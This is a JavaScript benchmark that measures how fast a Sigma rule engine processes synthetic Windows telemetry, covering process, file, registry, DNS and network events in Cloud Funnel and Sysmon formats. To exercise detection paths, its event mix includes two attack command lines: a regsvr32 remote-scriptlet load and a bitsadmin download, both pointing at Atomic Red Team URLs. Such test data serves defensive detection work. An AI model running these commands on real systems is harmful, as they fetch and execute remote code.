// Sigma engine throughput: events/s through decode + all SigmaHQ rules/windows rules, next to
// decode alone, on a realistic Windows mix in Cloud Funnel 2.0 and Sysmon JSON. Prints figures only.
// Build first: npx tsc -p tsconfig.json
import {dirname, join} from 'node:path';
import {fileURLToPath} from 'node:url';
import {decodeRecord} from '../dist/source/core/formats/index.js';
import {loadRules} from '../dist/source/core/rules/index.js';

const here = dirname(fileURLToPath(import.meta.url));
const CORPUS = join(here, '..', '..', 'shared', 'sigma', 'rules', 'windows');
const EVENTS = Number(process.env.SIGMA_BENCH_EVENTS ?? 60_000);

// Small seeded PRNG so every run sees the same mix.
let seed = 0x2f6b1a;
const rnd = () => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff);
const pick = a => a[Math.floor(rnd() * a.length)];
const hex = n => Array.from({length: n}, () => '0123456789abcdef'[Math.floor(rnd() * 16)]).join('');
const guid = () => `${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}`;

const S32 = 'C:\\Windows\\System32';
const USERS = ['alice.martin', 'marc.dubois', 'dev.kim', 's.nguyen', 'Administrator'];
const HOSTS = ['WS-FIN-01', 'WS-FIN-04', 'WS-ENG-07', 'WS-HR-03', 'SRV-DC01'];
const user = () => pick(USERS);
const PROCS = [
	() => [`${S32}\\svchost.exe`, `C:\\Windows\\system32\\svchost.exe -k ${pick(['netsvcs', 'LocalService', 'NetworkService', 'DcomLaunch'])} -p -s ${pick(['Schedule', 'BITS', 'Winmgmt', 'Dnscache', 'wuauserv'])}`, `${S32}\\services.exe`],
	() => [`C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe`, `"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --renderer-client-id=${Math.floor(rnd() * 400)} --field-trial-handle=${hex(6)},i,${hex(16)} /prefetch:1`, 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'],
	() => [`${S32}\\cmd.exe`, `C:\\Windows\\system32\\cmd.exe /c "C:\\Users\\${user()}\\scripts\\backup-${Math.floor(rnd() * 99)}.bat"`, 'C:\\Windows\\explorer.exe'],
	() => [`${S32}\\WindowsPowerShell\\v1.0\\powershell.exe`, `powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\${pick(['Intune', 'SCCM', 'Tools'])}\\${guid()}.ps1`, `${S32}\\svchost.exe`],
	() => [`${S32}\\conhost.exe`, `\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1`, `${S32}\\cmd.exe`],
	() => [`${S32}\\RuntimeBroker.exe`, `C:\\Windows\\System32\\RuntimeBroker.exe -Embedding`, `${S32}\\svchost.exe`],
	() => [`C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE`, `"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "C:\\Users\\${user()}\\Documents\\Q${1 + Math.floor(rnd() * 4)}-report-${hex(4)}.xlsx"`, 'C:\\Windows\\explorer.exe'],
	() => [`${S32}\\taskhostw.exe`, `taskhostw.exe ${pick(['', 'Install $(Arg0)', 'SYSTEM'])}`, `${S32}\\svchost.exe`],
	() => [`${S32}\\git.exe`.replace('System32', 'Program Files\\Git\\cmd'), `git.exe -c core.quotepath=false fetch origin --prune --no-tags ${hex(7)}`, `C:\\Users\\dev.kim\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe`],
	() => [`${S32}\\wbem\\WmiPrvSE.exe`, `C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding`, `${S32}\\svchost.exe`],
	() => [`${S32}\\msiexec.exe`, `C:\\Windows\\system32\\msiexec.exe /V`, `${S32}\\services.exe`],
	() => [`${S32}\\rundll32.exe`, `C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\${pick(['shell32.dll,SHCreateLocalServerRunDll', 'PhotoViewer.dll,ImageView_Fullscreen', 'inetcpl.cpl,ClearMyTracksByProcess 8'])} {${guid()}}`, `${S32}\\svchost.exe`],
	() => [`${S32}\\net.exe`, `net use Z: \\\\SRV-FILE02\\share${Math.floor(rnd() * 9)} /persistent:yes`, `${S32}\\cmd.exe`],
	() => [`${S32}\\schtasks.exe`, `schtasks.exe /query /fo LIST /v`, `${S32}\\cmd.exe`],
	() => [`C:\\Users\\${user()}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe`, `"C:\\Users\\${user()}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background`, 'C:\\Windows\\explorer.exe'],
	// A little attack traffic, so hit paths are measured too.
	() => [`${S32}\\regsvr32.exe`, 'regsvr32.exe /s /u /i:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.010/src/RegSvr32.sct scrobj.dll', `${S32}\\cmd.exe`],
	() => [`${S32}\\bitsadmin.exe`, `bitsadmin.exe /transfer ${hex(6)} /Priority HIGH https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md %temp%\\bitsadmin1_flag.ps1`, `${S32}\\cmd.exe`],
];
const FILES = () => pick([
	`C:\\Users\\${user()}\\AppData\\Local\\Temp\\${guid()}.tmp`,
	`C:\\Users\\${user()}\\Downloads\\invoice-${hex(6)}.pdf`,
	`C:\\Windows\\Prefetch\\${pick(['CHROME', 'SVCHOST', 'EXCEL'])}.EXE-${hex(8).toUpperCase()}.pf`,
	`C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\Service\\${hex(12)}.log`,
	`C:\\Users\\${user()}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_${hex(6)}`,
]);
const REGS = () => pick([
	[`HKU\\S-1-5-21-3623811015-3361044348-30300820-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.xlsx\\${Math.floor(rnd() * 40)}`, 'Binary Data'],
	[`HKLM\\SYSTEM\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1104\\\\Device\\HarddiskVolume3\\Windows\\System32\\${pick(['cmd.exe', 'notepad.exe'])}`, 'Binary Data'],
	[`HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated`, 'QWORD (0x01da1234-0x5678abcd)'],
	[`HKU\\S-1-5-21-1104\\Software\\Microsoft\\Office\\16.0\\Excel\\File MRU\\Item ${Math.floor(rnd() * 9)}`, `[F00000000][T01DA${hex(12).toUpperCase()}]*C:\\Users\\x\\Documents\\r.xlsx`],
]);
const DOMAINS = ['www.google.com', 'outlook.office365.com', 'login.microsoftonline.com', 'github.com', 'teams.microsoft.com', 'clients2.google.com', 'settings-win.data.microsoft.com', 'wpad.corp.example'];

function cf2(kind) {
	const base = {'event.time': 1_700_000_000_000 + Math.floor(rnd() * 1e9), 'endpoint.os': 'windows', 'endpoint.name': pick(HOSTS), 'src.process.user': `CORP\\${user()}`};
	if (kind === 'proc') {
		const [img, cmd, parent] = pick(PROCS)();
		return {...base, 'event.type': 'Process Creation', 'event.category': 'process', 'src.process.image.path': parent, 'src.process.cmdline': parent, 'tgt.process.image.path': img, 'tgt.process.cmdline': cmd, 'tgt.process.pid': Math.floor(rnd() * 20000), 'tgt.process.user': `CORP\\${user()}`};
	}
	const [img, cmd] = pick(PROCS)();
	const actor = {'src.process.image.path': img, 'src.process.cmdline': cmd, 'src.process.parent.image.path': `${S32}\\services.exe`};
	if (kind === 'file') return {...base, ...actor, 'event.type': 'File Creation', 'event.category': 'file', 'tgt.file.path': FILES()};
	if (kind === 'reg') {
		const [key, value] = REGS();
		return {...base, ...actor, 'event.type': 'Registry Value Modified', 'event.category': 'registry', 'registry.keyPath': key.replace(/^HKLM\\/, 'MACHINE\\').replace(/^HKU\\/, 'USER\\'), 'registry.value': value};
	}
	if (kind === 'dns') return {...base, ...actor, 'event.type': 'DNS Resolved', 'event.category': 'dns', 'event.dns.request': pick(DOMAINS), 'event.dns.response': `${10 + Math.floor(rnd() * 200)}.${Math.floor(rnd() * 255)}.1.${Math.floor(rnd() * 255)};`};
	return {...base, ...actor, 'event.type': 'IP Connect', 'event.category': 'ip', 'src.ip.address': '10.0.1.21', 'src.port.number': 49152 + Math.floor(rnd() * 10000), 'dst.ip.address': `${pick([13, 20, 52, 140, 142])}.${Math.floor(rnd() * 255)}.${Math.floor(rnd() * 255)}.${Math.floor(rnd() * 255)}`, 'dst.port.number': pick([443, 443, 443, 80, 445, 389]), 'event.network.direction': 'OUTGOING'};
}

const SYSMON_IDS = {proc: 1, file: 11, reg: 13, dns: 22, net: 3};
function sysmon(kind) {
	const base = {EventID: SYSMON_IDS[kind], Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: pick(HOSTS), UtcTime: '2024-05-01 10:00:00.000', ProcessGuid: `{${guid()}}`, ProcessId: Math.floor(rnd() * 20000), User: `CORP\\${user()}`};
	const [img, cmd, parent] = pick(PROCS)();
	if (kind === 'proc') return {...base, Image: img, CommandLine: cmd, OriginalFileName: img.split('\\').pop().toUpperCase(), ParentImage: parent, ParentCommandLine: parent, IntegrityLevel: 'Medium', Hashes: `SHA1=${hex(40)},MD5=${hex(32)},SHA256=${hex(64)},IMPHASH=${hex(32)}`, CurrentDirectory: 'C:\\Windows\\system32\\'};
	if (kind === 'file') return {...base, Image: img, TargetFilename: FILES()};
	if (kind === 'reg') {
		const [key, value] = REGS();
		return {...base, EventType: 'SetValue', Image: img, TargetObject: key, Details: value};
	}
	if (kind === 'dns') return {...base, Image: img, QueryName: pick(DOMAINS), QueryStatus: '0', QueryResults: '::ffff:142.250.1.1;'};
	return {...base, Image: img, Protocol: 'tcp', Initiated: 'true', SourceIp: '10.0.1.21', SourcePort: 50000, DestinationIp: '142.250.1.1', DestinationPort: pick([443, 80, 445]), DestinationHostname: pick(DOMAINS)};
}

const KINDS = [...Array(35).fill('proc'), ...Array(20).fill('file'), ...Array(15).fill('reg'), ...Array(15).fill('dns'), ...Array(15).fill('net')];
function records(make, n) {
	const out = [];
	for (let i = 0; i < n; i++) out.push({value: JSON.stringify(make(pick(KINDS))), receivedAt: 0});
	return out;
}

function run(label, recs, evaluate) {
	let hits = 0;
	let events = 0;
	// Warm up (JIT, and the engine's lazily built route groups).
	for (let i = 0; i < Math.min(2000, recs.length); i++) for (const ev of decodeRecord(recs[i])) evaluate?.(ev);
	const t0 = process.hrtime.bigint();
	for (const r of recs) {
		for (const ev of decodeRecord(r)) {
			events++;
			if (evaluate) hits += evaluate(ev).length;
		}
	}
	const ms = Number(process.hrtime.bigint() - t0) / 1e6;
	console.log(`${label.padEnd(44)} ${Math.round((events / ms) * 1000).toLocaleString('en-US').padStart(9)} events/s  (${events} events, ${hits} hits, ${ms.toFixed(0)} ms)`);
}

if (process.env.DUMP) { (await import("node:fs")).writeFileSync("/tmp/evs.json", JSON.stringify(records(cf2, 5000).map(r => r.value))); process.exit(0); }
const t0 = performance.now();
const {engine, report} = loadRules([CORPUS]);
console.log(`loaded ${report.loaded} rules (${report.builtin} built-in, ${report.skipped.length} skipped) from rules/windows in ${(performance.now() - t0).toFixed(0)} ms`);
const builtinOnly = loadRules([]).engine;

for (const [name, make] of [['s1-cf2', cf2], ['sysmon', sysmon]]) {
	const recs = records(make, EVENTS);
	run(`${name}: decode only (no rules)`, recs);
	run(`${name}: decode + built-in rules`, recs, ev => builtinOnly.evaluate(ev));
	run(`${name}: decode + rules/windows (${engine.size} rules)`, recs, ev => engine.evaluate(ev));
	const decoded = recs.flatMap(r => decodeRecord(r));
	const t1 = process.hrtime.bigint();
	for (const ev of decoded) engine.evaluate(ev);
	const ms = Number(process.hrtime.bigint() - t1) / 1e6;
	console.log(`${`${name}: rules only (pre-decoded)`.padEnd(44)} ${Math.round((decoded.length / ms) * 1000).toLocaleString('en-US').padStart(9)} events/s`);
}
for (const s of engine.stats()) console.log(`  route ${s.route}: ${s.rules} rules, ${s.always} without a prefilter key, ${s.indexedFields} indexed fields`);
